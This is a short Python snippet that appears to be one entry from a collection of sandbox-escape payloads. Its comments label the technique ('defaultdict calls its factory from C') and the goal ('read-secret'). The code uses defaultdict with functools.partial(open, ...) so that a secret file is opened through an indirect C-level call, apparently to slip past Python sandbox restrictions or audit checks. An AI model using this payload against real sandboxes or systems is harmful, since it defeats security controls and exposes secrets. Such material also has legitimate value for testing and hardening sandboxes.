# technique: defaultdict calls its factory from C
# goal: read-secret
# source: own analysis
import collections
import functools
print(collections.defaultdict(functools.partial(open, '@SECRET@'))[0].read())
